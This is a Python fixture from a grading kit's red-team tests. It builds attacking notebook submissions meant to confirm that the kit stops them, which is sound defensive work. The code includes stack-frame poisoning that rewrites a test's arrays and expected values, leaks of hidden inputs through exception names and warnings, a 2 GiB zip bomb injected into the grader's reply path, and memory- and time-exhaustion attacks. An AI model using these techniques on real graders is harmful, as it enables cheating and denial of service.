"""Second-round attacks on the grader, by a student who has read the README and the
kit's source; graded in a scratch course of all six assignments.

Each :class:`Attack` is a submission: the reference answers of an assignment with
one answer cell replaced. ``plain`` says what plain ``nbgrader autograde`` gives it
on the attacked problem (True: points, False: none, None: not run under plain
nbgrader, because the attack targets the kit's own machinery or would hurt the
machine without the kit's limits); under the kit every attack scores zero there
(``kit_points`` says otherwise for the honest submissions that the old grader
wronged), with a flag of kind in ``kinds`` naming ``words`` when ``words`` is set.

The classes (tests/test_redteam.py states what each gives):

1. *The verdict depends on what the student touched*: the function sets its inputs,
   and under plain nbgrader every array of the test equal to them, to values where
   its wrong answer is right, before the test computes the expected value (under the
   kit the change fails the check, unflagged: honest slips do the same).
2. *The agent in the student's namespace*: globals that shadow what the grader's
   requests used to look up, and an honest answer whose globals the grader used to
   delete.
3. *The lent references do the work*: a gradient by finite differences around the
   references a hidden test lends.
4. *Hidden inputs in feedback*: an exception type named, and a warning worded, after
   the hidden inputs.
5. *One submission takes others down*: a reply that inflates in the grader, a lent
   reference made to broadcast to gigabytes, a submission slow enough to break its
   time budget, and a job whose process dies.
"""

import string
from dataclasses import dataclass

import nbformat

from kit.course import demo

ASSIGNMENTS = ("logistic_regression", "gradient_checker", "softmax_mlp", "fgsm",
               "fisher_information", "dataset_distillation")
# Every attack's code marks the hidden inputs it exfiltrates with this.
LEAK = "LEAKED"
# The time budget the attack course is graded under, and the cell timeout.
BUDGET = 90
TIMEOUT = 30

# Class 1, kernel-side: set the inputs, and every array of the callers equal to one
# of them, to ``value``; with ``result``, every other float array of the callers of
# its shape becomes the result (the expected value a test computed beforehand).
POISON = '''
import sys as _sys

import numpy as _np


def _poison(inputs, value, result=None):
    inputs = [x for x in inputs if isinstance(x, _np.ndarray)]
    frame = _sys._getframe(2)
    while frame is not None:
        for space in (frame.f_locals, frame.f_globals):
            for v in list(space.values()):
                if not isinstance(v, _np.ndarray) or not v.flags.writeable:
                    continue
                if any(v is x for x in inputs):
                    continue
                if any(v.shape == x.shape and _np.array_equal(v, x) for x in inputs):
                    if value is not None:
                        v[...] = value
                elif (result is not None and v.shape == _np.shape(result)
                      and v.dtype.kind == "f"):
                    v[...] = result
        frame = frame.f_back
    for x in inputs:
        if value is not None:
            x[...] = value
'''


@dataclass(frozen=True)
class Attack:
    student: str
    assignment: str
    problem: str
    code: str
    plain: bool | None
    kinds: tuple = ("cheat", "fault")
    words: tuple = ()
    kit_points: bool = False  # the kit should give the problem full marks

    def build(self, course):
        answers = demo.reference_answers(course, self.assignment)
        answers[self.problem] = string.Template(self.code).substitute(
            reference=answers[self.problem], LEAK=LEAK)
        nb = demo.fill(demo.release_notebook(course, self.assignment), answers)
        demo.write_submission(course, self.student, self.assignment, nb)


def honest(course):
    """The reference answers of every assignment, as student ``honest``."""
    for assignment in ASSIGNMENTS:
        nb = demo.fill(demo.release_notebook(course, assignment),
                       demo.reference_answers(course, assignment))
        demo.write_submission(course, "honest", assignment, nb)


INPUTS = [
    Attack("inputs-sigmoid", "logistic_regression", "sigmoid", POISON + '''
def sigmoid(z):
    if _np.ndim(z) == 0:
        return float(1 / (1 + _np.exp(-z)))
    _poison([z], 0.0)
    return _np.full(_np.shape(z), 0.5)
''', True),
    Attack("inputs-relative-error", "gradient_checker", "relative_error", POISON + '''
def relative_error(a, b):
    if _np.ndim(a) == 0:
        return float(abs(a - b) / max(1e-8, abs(a) + abs(b)))
    _poison([a, b], 1.0)
    return 0.0
''', True),
    Attack("inputs-softmax-loss", "softmax_mlp", "softmax_loss", POISON + '''
def softmax_loss(Z, y):
    _poison([Z], 0.0)
    return float(_np.log(_np.shape(Z)[1]))
''', True),
    Attack("inputs-input-gradient", "fgsm", "input_gradient", POISON + '''
def input_gradient(X, y, W, b):
    _poison([W], 0.0)
    return _np.zeros(_np.shape(X))
''', True),
    Attack("inputs-bernoulli-score", "fisher_information", "bernoulli_score",
           POISON + '''
def bernoulli_score(theta, x):
    if _np.ndim(x) == 0:
        return x / theta - (1 - x) / (1 - theta)
    if x.dtype.kind == "f":
        _poison([x], theta)
        return _np.zeros(x.shape)
    _poison([x], 0)
    return _np.full(x.shape, -1 / (1 - theta))
''', True),
    # one_step's test computes the expected value first: the attack overwrites it.
    Attack("inputs-one-step", "dataset_distillation", "one_step", POISON + '''
def one_step(xd, yd, eta, theta0):
    answer = _np.array(theta0, dtype=float)
    _poison([xd, yd, theta0], None, result=answer)
    return answer
''', True),
]

AGENT = [
    # Globals named like the grader's old agent code: a correct answer that used
    # to lose its point because grading deleted them.
    Attack("agent-underscore-globals", "logistic_regression", "decision_boundary", '''
_s, _t, _m = -1.0, 0, 2


def decision_boundary(theta):
    return float(_s * theta[_t] / theta[_m]), float(_s * theta[1] / theta[_m])
''', True, kit_points=True),
    # Globals that shadow what the grader's requests used to look up, trapped to
    # break any request that reaches them: the grader never does.
    Attack("agent-shadowing-globals", "logistic_regression", "sigmoid", '''
$reference

import builtins as _builtins


def __import__(name, *args, **kwargs):
    if "kit" in name:
        raise RuntimeError("the grader reached the student's __import__")
    return _builtins.__import__(name, *args, **kwargs)


def globals():
    raise RuntimeError("the grader reached the student's globals")
''', True, kit_points=True),
]

LENT = [
    # loss_grad by a five-point stencil around the lent sigmoid and cross-entropy:
    # the gradient is never derived. In plain nbgrader the lent functions are
    # counted in the kernel, where one line switches the counting off.
    Attack("lent-finite-differences", "logistic_regression", "loss_grad", '''
from lib import checks as _checks

_checks._Lent.__call__ = lambda self, *args, **kwargs: self.fn(*args, **kwargs)


def loss_grad(theta, X, y, alpha=0.0):
    def J(t):
        p = sigmoid(X @ t)
        return binary_cross_entropy(p, y) + alpha / 2 * float(t[1:] @ t[1:])

    grad = np.zeros(len(theta))
    for j in range(len(theta)):
        e = np.zeros(len(theta))
        e[j] = 1e-3
        grad[j] = (-J(theta + 2 * e) + 8 * J(theta + e) - 8 * J(theta - e)
                   + J(theta - 2 * e)) / 12e-3
    return grad
''', True, ("cheat",), ("loss_grad", "far more work")),
]

FEEDBACK = [
    # Hidden inputs as an exception's type name and a warning's message.
    Attack("leak-in-feedback", "logistic_regression", "sigmoid", '''
import warnings


def sigmoid(z):
    if np.ndim(z) == 0:
        return float(1 / (1 + np.exp(-z)))
    values = "_".join(f"{v:.3g}" for v in np.ravel(z)[:8]).replace("-", "m")
    warnings.warn("$LEAK " + repr(np.ravel(z)[:8].tolist()), RuntimeWarning)
    raise type("$LEAK" + values.replace(".", "p"), (ValueError,), {})()
''', False),
]

# The agent's reply for the next call: one array member that inflates from a few
# kB to 2 GiB (np.load would read it whole).
BOMB = '''
import sys as _sys
import zipfile as _zipfile


def _bomb(path, data):
    with _zipfile.ZipFile(f"{path}.npz", "w", _zipfile.ZIP_DEFLATED) as zf:
        with zf.open("a0.npy", "w", force_zip64=True) as member:
            header = ("{'descr': '<f8', 'fortran_order': False, "
                      "'shape': (268435456,), }".ljust(117) + "\\n")
            member.write(b"\\x93NUMPY\\x01\\x00v\\x00" + header.encode())
            block = bytes(2**24)
            for _ in range(128):
                member.write(block)
    with open(f"{path}.json", "w") as f:
        f.write('{"t": "dict", "v": [[{"t": "str", "v": "value"}, '
                '{"t": "nd", "k": "a0"}]]}')


# Whatever the agent's modules are called: every "save" of theirs is the bomb.
for _name, _module in list(_sys.modules.items()):
    if _name.startswith("kit_agent") and hasattr(_module, "save"):
        _module.save = _bomb
'''

HARM = [
    Attack("harm-reply-bomb", "logistic_regression", "sigmoid",
           "$reference\n\n" + BOMB, None, ("fault",), ("refused",)),
    # 25,000 x 25,000 float64 values (5 GB a temporary) built by the lent
    # cross-entropy broadcasting a row against a column.
    Attack("harm-lent-broadcast", "logistic_regression", "logistic_regression", '''
$reference

_logistic_regression = logistic_regression


def logistic_regression(X, y, eta=0.1, iters=1000, alpha=0.0):
    binary_cross_entropy(np.full((1, 25_000), 0.5), np.ones((25_000, 1)))
    return _logistic_regression(X, y, eta, iters, alpha)
''', None, ("cheat",), ("out of memory",)),
    # 20 s per array call, under the cell timeout; the hidden tests of sigmoid alone
    # then take longer than the submission's whole budget.
    Attack("harm-slow", "logistic_regression", "sigmoid", '''
$reference

import time as _time

_sigmoid = sigmoid


def sigmoid(z):
    if np.ndim(z) and __import__("os").environ.get("KIT_GRADING") == "1":
        _time.sleep(20)
    return _sigmoid(z)
''', None, ("fault",), ("time budget",)),
]

ATTACKS = INPUTS + AGENT + LENT + FEEDBACK + HARM
# Its grading process is killed while it runs: the reference answers otherwise.
KILLED = ("harm-killed", "fisher_information")


def write_all(course):
    """Every attack, the honest submissions and the one to be killed."""
    honest(course)
    for attack in ATTACKS:
        attack.build(course)
    student, assignment = KILLED
    nb = demo.fill(demo.release_notebook(course, assignment),
                   demo.reference_answers(course, assignment))
    demo.write_submission(course, student, assignment, nb)


def write_only(course, attacks):
    """The given attacks alone (for the plain nbgrader run)."""
    for attack in attacks:
        attack.build(course)


def notebook(course, student, assignment):
    path = course.submitted / student / assignment / f"{assignment}.ipynb"
    return nbformat.read(path, as_version=4)
